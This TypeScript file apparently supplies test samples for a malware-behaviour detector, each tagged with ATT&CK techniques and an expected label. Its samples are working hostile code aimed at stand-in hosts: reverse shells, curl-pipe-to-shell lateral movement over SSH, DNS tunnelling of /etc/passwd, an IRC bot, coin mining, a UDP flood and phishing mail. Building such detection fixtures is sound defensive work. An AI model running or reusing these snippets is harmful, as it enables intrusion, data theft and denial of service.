// Talking to those who sent it: requests, own protocols, names as carriers, mail, back doors.
import type { Trait } from './trait.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

export const NETWORK: readonly Trait[] = [
  {
    name: 'goes on to the machines that this one knows',
    language: 'shell',
    source: shell([
      `for host in $(awk '{print $1}' ~/.ssh/known_hosts) 10.0.2.21; do`,
      '  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 root@$host "curl http://dl.example/i.sh | sh"',
      'done; sshpass -p admin123 ssh root@10.0.2.22 id',
    ]),
    shows: {
      trace_moves_to_other_machines: ['T1021.004', 'T1110'],
      trace_downloads_and_runs: ['T1105'],
    },
    label: 'suspicious',
  },
  {
    name: 'calls home over HTTP again and again',
    language: 'python',
    source: `
import socket, time, urllib.request
for turn in range(5):
    body = ("id=" + socket.gethostname() + "&n=" + str(turn)).encode()
    request = urllib.request.Request("http://panel.example/gate.php", data=body, headers={"User-Agent": "Mozilla/4.0"})
    urllib.request.urlopen(request).read()
    time.sleep(60)
`,
    shows: {
      trace_sends_data_out: ['T1041', 'T1071.001'],
      trace_calls_home: ['T1071.001'],
      trace_stalls: ['T1497.003'],
    },
    label: 'suspicious',
    tells: ['http://panel.example/gate.php', 'id=web01', 'Mozilla/4.0'],
  },
  {
    name: 'a protocol of its own on a port of its own',
    language: 'c',
    source: `
#include <arpa/inet.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(48101)};
  inet_pton(AF_INET, "203.0.113.40", &to.sin_addr);
  int made = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(made, (struct sockaddr *)&to, sizeof to) < 0) return 1;
  const char hello[] = {0, 0, 0, 1, 4, 'b', 'o', 't', '1'};
  if (write(made, hello, sizeof hello) < 0) return 2;
  sleep(30);
  const char still[] = {0, 0};
  return write(made, still, sizeof still) < 0;
}`,
    shows: { trace_speaks_own_protocol: ['T1095', 'T1571'] },
    label: 'unknown',
    tells: ['203.0.113.40', 'bot1'],
    core: true,
  },
  {
    name: 'a protocol of its own on the port of the web, and datagrams to that of names',
    language: 'python',
    source: `
import socket, time
for turn in range(4):
    made = socket.create_connection(("203.0.113.41", 443), 5)
    made.sendall(b"\\x01checkin;" + socket.gethostname().encode())
    made.close()
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"ping " + str(turn).encode() * 20, ("203.0.113.42", 53))
    time.sleep(40)
`,
    shows: {
      trace_speaks_own_protocol: ['T1095', 'T1571', 'T1082'],
      trace_calls_home: ['T1095'],
      trace_stalls: ['T1497.003'],
    },
    label: 'suspicious',
    tells: ['203.0.113.41', 'checkin;web01', '203.0.113.42'],
    core: true,
  },
  {
    name: 'data in the names that it asks for',
    language: 'python',
    source: `
import base64, socket
data = base64.b32encode(open("/etc/passwd", "rb").read()).decode().lower().rstrip("=")
for at in range(0, len(data), 56):
    try: socket.gethostbyname(f"{data[at:at + 56]}.{at:04x}.t.tunnel.example")
    except OSError: pass
`,
    shows: { trace_tunnels_through_names: ['T1071.004', 'T1048', 'T1132.001'] },
    label: 'malicious',
    tells: ['t.tunnel.example'],
    core: true,
  },
  {
    name: 'a bot in a chat room',
    language: 'perl',
    source: String.raw`#!/usr/bin/perl
use IO::Socket::INET;
my $room = IO::Socket::INET->new(PeerAddr => "irc.botnet.example:6667") or exit 1;
print $room "NICK lnx4711\r\nUSER lnx 8 * :x86\r\n";
while (my $line = <$room>) {
  print $room "PONG $1\r\n" if $line =~ /^PING (.*)/;
  if ($line =~ / 001 /) { print $room "JOIN #rooted secret\r\n"; last; }
}
print $room "PRIVMSG #rooted :ready\r\n";
sleep 1;
`,
    shows: { trace_obeys_chat_room: ['T1071'] },
    label: 'suspicious',
    tells: ['irc.botnet.example', 'JOIN #rooted'],
    core: true,
  },
  {
    name: 'mines for a pool',
    language: 'python',
    source: String.raw`
import json, socket
pool = socket.create_connection(("pool.minexmr.example", 4444))
pool.sendall(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "pass": "x", "agent": "XMRig/6.21.0"}}).encode() + b"\n")
pool.recv(512)
pool.sendall(b'{"id":2,"method":"mining.subscribe","params":[]}\n')
`,
    shows: { trace_mines_coins: ['T1496'] },
    label: 'suspicious',
    tells: ['pool.minexmr.example', 'XMRig'],
  },
  {
    name: 'hands a shell out, by the shell itself',
    language: 'shell',
    source: shell(['timeout 3 bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', 'exit 0']),
    shows: {
      trace_opens_reverse_shell: ['T1059.004', 'T1095'],
      trace_speaks_own_protocol: ['T1095', 'T1571', 'T1082'],
    },
    label: 'malicious',
    tells: ['198.51.100.77'],
  },
  {
    name: 'hands a shell out, by calls',
    language: 'c',
    source: `
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9001)};
  inet_pton(AF_INET, "203.0.113.66", &to.sin_addr);
  int made = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(made, (struct sockaddr *)&to, sizeof to) < 0) return 1;
  for (int number = 0; number < 3; number++) dup2(made, number);
  execl("/bin/sh", "sh", "-i", (char *)0);
  return 2;
}`,
    shows: { trace_opens_reverse_shell: ['T1059.004', 'T1095'], trace_speaks_own_protocol: ['T1095', 'T1571'] },
    label: 'malicious',
    watchedSeconds: 5,
    core: true,
  },
  {
    name: 'a back door that listens and gives a shell',
    language: 'python',
    source: `
import os, socket
door = socket.socket()
door.bind(("0.0.0.0", 31337))
door.listen(1)
door.settimeout(3)
try: door.accept()
except OSError: pass
`,
    shows: { trace_listens: ['T1571'] },
    label: 'unknown',
    tells: ['31337'],
  },
  {
    name: 'downloads a program and runs it',
    language: 'shell',
    source: shell([
      'cd /tmp || cd /var/run',
      'wget -q http://dl.example/bins/x86.sh -O kthrd || curl -s -o kthrd http://dl.example/bins/x86.sh',
      'chmod 777 kthrd && ./kthrd && rm -f kthrd',
    ]),
    shows: { trace_downloads_and_runs: ['T1105'], trace_fetches_further_stage: ['T1105', 'T1071.001'] },
    label: 'suspicious',
    tells: ['http://dl.example/bins/x86.sh'],
  },
  {
    name: 'tries machines one after another',
    language: 'c',
    source: `
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  for (int host = 1; host <= 60; host++) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(host % 2 ? 23 : 2323)};
    to.sin_addr.s_addr = htonl(0xcb007100u + (unsigned)host);
    int made = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    connect(made, (struct sockaddr *)&to, sizeof to);
    if (host % 8 == 0) usleep(1000);
    close(made);
  }
  return 0;
}`,
    shows: { trace_scans_network: ['T1046'] },
    label: 'suspicious',
  },
  {
    name: 'floods a target',
    language: 'c',
    source: `
#include <arpa/inet.h>
#include <sys/socket.h>
int main(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
  inet_pton(AF_INET, "198.51.100.200", &to.sin_addr);
  static char load[512];
  int made = socket(AF_INET, SOCK_DGRAM, 0);
  for (int turn = 0; turn < 600; turn++) sendto(made, load, sizeof load, 0, (struct sockaddr *)&to, sizeof to);
  return 0;
}`,
    shows: { trace_floods_target: ['T1498.001'] },
    label: 'suspicious',
  },
  {
    name: 'sends mail',
    language: 'python',
    source: `
import smtplib
from email.message import EmailMessage
mail = EmailMessage()
mail["From"], mail["To"], mail["Subject"] = "billing@shop.example", "victim@corp.example, second@corp.example", "Invoice 8812 overdue"
mail.set_content("See attachment")
mail.add_attachment(b"MZ not really", maintype="application", subtype="octet-stream", filename="invoice.exe")
with smtplib.SMTP("mail.corp.example", 25) as server: server.send_message(mail)
`,
    shows: { trace_sends_mail: ['T1071.003'] },
    label: 'unknown',
    tells: ['victim@corp.example', 'second@corp.example', 'Invoice 8812 overdue', 'billing@shop.example'],
  },
  {
    name: 'trusts only an authority of its own',
    language: 'python',
    source: `
import socket, ssl
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
try: context.wrap_socket(socket.create_connection(("pinned.example", 443)), server_hostname="pinned.example")
except ssl.SSLError: pass
`,
    shows: {},
    label: 'unknown',
    tells: ['pinned.example', 'TLS was not agreed on: unknown_ca'],
  },
  {
    name: 'requests over TLS by every client of the system',
    language: 'shell',
    source: shell([
      'curl -s https://curl.example/gate -d "host=$(hostname)" -A agent/1',
      'wget -qO- https://wget.example/next.txt',
      `python3 -c 'import urllib.request as u; u.urlopen("https://python.example:8443/p?q=1").read()'`,
    ]),
    shows: {
      trace_sends_data_out: ['T1041', 'T1071.001'],
      trace_fetches_further_stage: ['T1105', 'T1071.001'],
    },
    label: 'unknown',
    tells: [
      'https://curl.example/gate',
      'host=web01',
      'https://wget.example/next.txt',
      'https://python.example:8443/p?q=1',
    ],
    watchedSeconds: 60,
    core: true,
  },
  {
    name: 'sends mail within TLS',
    language: 'python',
    source: String.raw`
import smtplib
server = smtplib.SMTP("mail.example", 587)
server.starttls()
server.sendmail("a@x.example", ["b@y.example"], "Subject: passwords of web01\r\n\r\nnone")
server = smtplib.SMTP_SSL("mail.example", 465)
server.sendmail("a@x.example", ["c@y.example"], "Subject: and more\r\n\r\nnone")
`,
    shows: { trace_sends_mail: ['T1071.003'] },
    label: 'unknown',
    tells: ['b@y.example', 'c@y.example', 'passwords of web01', 'and more'],
  },
  {
    name: 'many made-up names',
    language: 'python',
    source: `
import hashlib, socket
for day in range(40):
    try: socket.gethostbyname(hashlib.md5(str(day).encode()).hexdigest()[:14] + ".invalid")
    except OSError: pass
`,
    shows: { trace_tries_many_domains: ['T1568.002'] },
    label: 'suspicious',
  },
]
